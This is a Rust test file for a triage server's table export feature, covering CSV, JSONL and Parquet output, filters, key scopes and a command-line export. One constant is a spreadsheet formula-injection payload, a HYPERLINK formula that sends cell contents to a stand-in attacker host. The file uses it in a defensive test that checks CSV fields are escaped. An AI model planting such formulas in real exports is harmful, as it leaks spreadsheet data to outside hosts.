//! Tables as files: by the API, from the pages, and by the command.

use app::model::{ExportTable, Role, Scope};
use axum::body::Body;
use bytes::Bytes;
use parquet::file::reader::{FileReader as _, SerializedFileReader};
use serde_json::{Value, json};
use server::service::Actor;

use crate::{
    harness::{Answer, TestServer, triage},
    process::{Finished, program, run},
};

const FORMATS: [(&str, &str); 3] = [
    ("csv", "text/csv; charset=utf-8; header=present"),
    ("jsonl", "application/x-ndjson"),
    ("parquet", "application/vnd.apache.parquet"),
];

/// What a model wrote who has read of spreadsheets.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1, \"refund\")";

/// A server with an item that was edited, one that was approved and one that waits; a key that reads.
async fn ready() -> (TestServer, String) {
    let server = TestServer::with_triage().await;
    let ingest = server.ingest_key().await;
    let review = server.review_key("r@example.com").await;
    let item = |source: &str| {
        json!({"input": FORMULA, "output": {"intent": "refund"}, "confidence": 0.4, "source": source,
               "model": "-m1", "external_id": "+49 30"})
    };
    server.submit(&ingest, item("shop")).await;
    let held = server.claim_one(&review).await;
    let path = format!("/api/v1/items/{}/verdict", held["id"].as_str().unwrap());
    let verdict = json!({"lease": held["lease"]["token"], "verdict": "edit", "output": {"intent": "status"},
                         "comment": "=1+1", "active_ms": 1200});
    assert_eq!(server.post(&path).bearer(&review).json(&verdict).await.status, 200);
    server.submit(&ingest, item("crm")).await;
    server.approve_one(&review).await;
    server.let_holds_end().await;
    server.submit(&ingest, item("crm")).await;
    let read = server.key(&[Scope::Read], None, None).await;
    (server, read)
}

async fn table(server: &TestServer, key: &str, address: &str) -> Answer {
    let answer = server.get(&format!("/api/v1/export/{address}")).bearer(key).await;
    assert_eq!(answer.status, 200, "{address}: {}", answer.text());
    answer
}

fn rows_of_csv(answer: &Answer) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(answer.body.as_ref());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn rows_of_parquet(bytes: Bytes) -> i64 {
    SerializedFileReader::new(bytes).unwrap().metadata().file_metadata().num_rows()
}

#[tokio::test]
async fn every_table_comes_in_every_format_with_as_many_rows() {
    let (server, read) = ready().await;
    for name in ExportTable::ALL {
        let mut counts = Vec::new();
        for (format, media_type) in FORMATS {
            let answer = table(&server, &read, &format!("{name}?format={format}")).await;
            assert_eq!(answer.header("content-type"), media_type);
            assert_eq!(
                answer.header("content-disposition"),
                format!("attachment; filename=\"countersign-{name}.{format}\"")
            );
            assert_eq!(answer.header("cache-control"), "no-store");
            counts.push(match format {
                "csv" => rows_of_csv(&answer).len() as i64 - 1,
                "jsonl" => answer.lines().len() as i64,
                _ => rows_of_parquet(answer.body),
            });
        }
        assert!(counts[0] > 0 && counts.iter().all(|count| *count == counts[0]), "{name}: {counts:?}");
    }
    let expected = [("items", 3), ("decisions", 2), ("verdicts", 2), ("corrections", 1), ("preferences", 1)];
    for (name, count) in expected {
        assert_eq!(table(&server, &read, name).await.lines().len(), count, "{name}");
    }
}

#[tokio::test]
async fn the_dictionary_tells_of_every_column_of_every_table() {
    let (server, read) = ready().await;
    let dictionary = table(&server, &read, "dictionary").await.lines();
    for name in ExportTable::ALL {
        let told: Vec<_> = dictionary
            .iter()
            .filter(|line| line["table"] == name.as_str())
            .map(|line| line["column"].as_str().unwrap().to_owned())
            .collect();
        let header = rows_of_csv(&table(&server, &read, &format!("{name}?format=csv")).await).remove(0);
        assert_eq!(told, header, "{name}");
        let line = table(&server, &read, name.as_str()).await.lines().remove(0);
        assert_eq!(line.as_object().unwrap().keys().cloned().collect::<Vec<_>>(), told, "{name}");
    }
}

/// Invariant 10: what a producer, a model or a reviewer wrote is data.
#[tokio::test]
async fn no_text_of_a_csv_is_a_formula() {
    let (server, read) = ready().await;
    for name in ExportTable::ALL {
        let answer = table(&server, &read, &format!("{name}?format=csv")).await;
        for field in rows_of_csv(&answer).into_iter().flatten() {
            let is_number = field.parse::<f64>().is_ok();
            assert!(is_number || !field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {field}");
        }
    }
    let items = table(&server, &read, "items?format=csv").await.text();
    assert!(items.contains("'+49 30") && items.contains("'-m1"), "{items}");
    let pairs = table(&server, &read, "preferences?format=csv").await;
    assert_eq!(rows_of_csv(&pairs)[1][0], format!("'{FORMULA}"));
    // Elsewhere nobody takes it for one.
    assert_eq!(table(&server, &read, "preferences").await.lines()[0]["prompt"], FORMULA);
}

#[tokio::test]
async fn filters_narrow_and_wrong_ones_are_refused() {
    let (server, read) = ready().await;
    for (address, count) in [
        ("items?source=crm", 2),
        ("items?source=crm&status=pending", 1),
        ("items?verdict=edit", 1),
        ("items?workflow=triage&route=review&model=-m1", 3),
        ("items?to=2023-11-13", 0),
        ("items?from=2023-11-14&to=2023-11-15&tz=UTC", 3),
        ("verdicts?verdict=approve", 1),
        ("preferences?source=crm", 0),
        ("items?source=", 0),
        ("items?model=&workflow=", 0),
        ("items?from=2015-01-01", 3),
        ("items?from=9999-12-31&to=9999-12-31", 0),
        ("verdicts?from=9999-12-31&to=9999-12-31", 0),
    ] {
        assert_eq!(table(&server, &read, address).await.lines().len(), count, "{address}");
    }
    for (address, status, code) in [
        ("users", 404, "not_found"),
        ("items.csv", 404, "not_found"),
        ("items?workflow=none", 404, "not_found"),
        ("items?format=xlsx", 400, "invalid_query"),
        ("items?soruce=crm", 400, "invalid_query"),
        ("items?from=soon", 422, "invalid_day"),
        ("items?from=2023-11-14&to=2023-11-01", 422, "invalid_period"),
        ("metrics?source=crm", 422, "filter_not_applicable"),
        ("verdicts?status=final", 422, "filter_not_applicable"),
        ("items?by=source", 422, "filter_not_applicable"),
        ("decisions?bucket=day", 422, "filter_not_applicable"),
        ("items?week=sunday", 422, "filter_not_applicable"),
        ("dictionary?workflow=triage", 422, "filter_not_applicable"),
        ("dictionary?from=2023-11-14", 422, "filter_not_applicable"),
        ("items?tz=Mars/Base", 422, "invalid_time_zone"),
        ("metrics?workflow=triage&tz=Mars/Base", 422, "invalid_time_zone"),
        ("metrics?from=2015-01-01", 422, "invalid_period"),
    ] {
        server.get(&format!("/api/v1/export/{address}")).bearer(&read).await.problem(status, code);
    }
}

#[tokio::test]
async fn a_key_takes_away_what_it_may_read() {
    let (server, _) = ready().await;
    let mut other = triage();
    other["slug"] = "other".into();
    server.add_workflow(other).await;
    let bound = server.key(&[Scope::Read], Some("other"), None).await;
    assert_eq!(table(&server, &bound, "items").await.lines().len(), 0, "its own workflow only");
    assert_eq!(table(&server, &bound, "verdicts").await.lines().len(), 0);
    server.get("/api/v1/export/items?workflow=triage").bearer(&bound).await.problem(403, "forbidden");
    let ingest = server.key(&[Scope::Ingest], None, None).await;
    server.get("/api/v1/export/items").bearer(&ingest).await.problem(403, "forbidden");
}

#[tokio::test]
async fn no_table_holds_a_secret() {
    let (server, read) = ready().await;
    let review = server.review_key("s@example.com").await;
    let lease = server.claim_one(&review).await["lease"]["token"].as_str().unwrap().to_owned();
    for name in ExportTable::ALL {
        let text = table(&server, &read, name.as_str()).await.text();
        for secret in ["$argon2", "cs_", "password", lease.as_str()] {
            let found = text.lines().find(|line| line.contains(secret));
            assert_eq!(found, None, "{name} holds {secret}");
        }
    }
}

#[tokio::test]
async fn a_page_has_its_tables_as_files_and_reviewers_have_none() {
    let (server, _) = ready().await;
    for role in [Role::Reviewer, Role::Operator, Role::Manager, Role::Admin] {
        server.add_person(role).await;
    }
    for (role, status) in [("reviewer", 403), ("operator", 200), ("manager", 200), ("admin", 200)] {
        let cookie = server.sign_in(&format!("{role}@example.com")).await;
        let before = server.audit_entries().await;
        // All that a page may ask stands in the address.
        let query = "workflow=triage&by=source&bucket=day&tz=Europe%2FBerlin&week=monday&compare=period&kind=category";
        for (format, media_type) in FORMATS {
            for name in ExportTable::ALL {
                let path = format!("/insights/export/{name}.{format}?{query}");
                let answer = server.get(&path).cookie(&cookie).await;
                assert_eq!(answer.status, status, "{role} {path}: {}", answer.text());
                if status == 200 {
                    assert_eq!(answer.header("content-type"), media_type);
                    assert_eq!(answer.header("cache-control"), "no-store");
                }
            }
        }
        assert_eq!(server.audit_entries().await, before, "reading leaves no trace");
    }
    let cookie = server.sign_in("manager@example.com").await;
    let get = |path: &str| server.get(path).cookie(&cookie);
    let dictionary = get("/insights/export/dictionary.csv").await;
    assert!(dictionary.text().contains("inclusion_probability"), "{}", dictionary.text());
    for path in ["/insights/export/items", "/insights/export/items.xlsx", "/insights/export/users.csv"] {
        get(path).await.problem(404, "not_found");
    }
    get("/insights/export/items.csv?source=crm").await.problem(400, "invalid_query");
    server.get("/insights/export/items.csv").await.problem(401, "unauthenticated");
}

#[tokio::test]
async fn an_output_that_is_not_the_one_that_was_decided_on_is_not_passed_off_as_it() {
    let (server, read) = ready().await;
    let mut connection =
        <sqlx::SqliteConnection as sqlx::Connection>::connect(&server.database).await.unwrap();
    let forged: &[u8] = br#"{"intent": "other"}"#;
    sqlx::query("UPDATE payloads SET bytes = $1 WHERE part = 'edit'")
        .bind(forged)
        .execute(&mut connection)
        .await
        .unwrap();
    for name in ["decisions", "corrections", "preferences"] {
        server.get(&format!("/api/v1/export/{name}")).bearer(&read).await.problem(500, "internal");
    }
}

#[tokio::test]
async fn a_table_breaks_off_where_whoever_takes_it_may_no_longer() {
    let server = TestServer::with_triage().await;
    let ingest = server.ingest_key().await;
    let line = json!({"output": {"intent": "other"}, "confidence": 0.4}).to_string();
    let body = Body::from(format!("{line}\n").repeat(2_500));
    let submitted = server.post("/api/v1/workflows/triage/items/batch").bearer(&ingest).body(body).await;
    assert_eq!(submitted.lines().len(), 2_500);
    let read = server.key(&[Scope::Read], None, None).await;
    let answer = server.get("/api/v1/export/items").bearer(&read).open().await;
    assert_eq!(answer.status(), 200);
    let keys = server.services.list_keys(&Actor::Cli).await.unwrap();
    let key = keys.iter().find(|key| key.scopes == [Scope::Read]).unwrap().id;
    server.services.revoke_key(&Actor::Cli, key).await.unwrap();
    let whole = axum::body::to_bytes(answer.into_body(), usize::MAX).await;
    assert!(whole.is_err(), "a part is not passed off as the whole");
}

/// A database that the command can be run on.
fn a_database() -> (tempfile::TempDir, String) {
    let folder = tempfile::tempdir().unwrap();
    let database = format!("sqlite://{}", folder.path().join("cli.db").display());
    let definition = folder.path().join("triage.json");
    std::fs::write(&definition, triage().to_string()).unwrap();
    run(&["workflow", "apply", definition.to_str().unwrap(), "--database", &database]).expect(0);
    let lines = folder.path().join("items.jsonl");
    let line = json!({"input": "?", "output": {"intent": "refund"}, "confidence": 0.4, "source": "=shop"})
        .to_string();
    std::fs::write(&lines, format!("{line}\n{line}\n")).unwrap();
    run(&["import", lines.to_str().unwrap(), "--workflow", "triage", "--database", &database]).expect(0);
    (folder, database)
}

fn export(database: &str, arguments: &[&str]) -> Finished {
    run(&[&["export", "--database", database], arguments].concat())
}

#[test]
fn the_command_writes_tables() {
    let (_folder, database) = a_database();
    let csv = export(&database, &["--workflow", "triage", "--format", "csv"]).expect(0);
    assert!(csv.starts_with("workflow,item,") && csv.lines().count() == 3, "{csv}");
    assert!(csv.contains("'=shop"), "{csv}");
    let parquet = program()
        .args(["export", "--database", &database, "--workflow", "triage", "--format", "parquet"])
        .output()
        .unwrap();
    assert!(parquet.status.success());
    assert_eq!(rows_of_parquet(Bytes::from(parquet.stdout)), 2);
    let items =
        export(&database, &["--table", "items", "--source", "=shop", "--status", "pending"]).expect(0);
    let items: Vec<Value> = items.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(items.len() == 2 && items.iter().all(|item| item["source"] == "=shop"), "{items:?}");
    assert_eq!(export(&database, &["--table", "items", "--to", "2020-01-01"]).expect(0), "");
    assert_eq!(export(&database, &["--table", "items", "--source", ""]).expect(0), "");
    assert_eq!(export(&database, &["--table", "items", "--from", "2015-01-01"]).expect(0).lines().count(), 2);
    assert_eq!(
        export(&database, &["--workflow", "triage", "--preferences"]).expect(0),
        "",
        "nothing was edited yet"
    );
    let header = export(&database, &["--preferences", "--format", "csv"]).expect(0);
    assert!(header.starts_with("prompt,chosen,rejected,"), "{header}");
    assert!(export(&database, &["--table", "dictionary"]).expect(0).contains("inclusion_probability"));
    assert!(
        export(&database, &["--table", "metrics", "--workflow", "triage"])
            .expect(0)
            .contains("\"submitted\"")
    );
}

#[test]
fn the_command_says_what_is_wrong() {
    let (_folder, database) = a_database();
    for (arguments, code, words) in [
        (&[][..], 2, "--workflow"),
        (&["--workflow", "none", "--format", "csv"], 1, "none"),
        (&["--workflow", "none"], 1, "none"),
        (&["--workflow", "triage", "--source", "shop"], 2, "--table"),
        (&["--table", "users"], 2, "users"),
        (&["--table", "items", "--preferences"], 2, "--preferences"),
        (&["--table", "items", "--from", "soon"], 1, "soon"),
        (&["--table", "metrics", "--route", "review"], 1, "route"),
        (&["--table", "items", "--by", "source"], 1, "by"),
        (&["--table", "dictionary", "--workflow", "triage"], 1, "workflow"),
        (&["--table", "items", "--tz", "Mars/Base"], 1, "Mars/Base"),
    ] {
        let finished = export(&database, arguments);
        finished.expect(code);
        assert!(finished.err().contains(words), "{arguments:?}: {}", finished.err());
    }
}
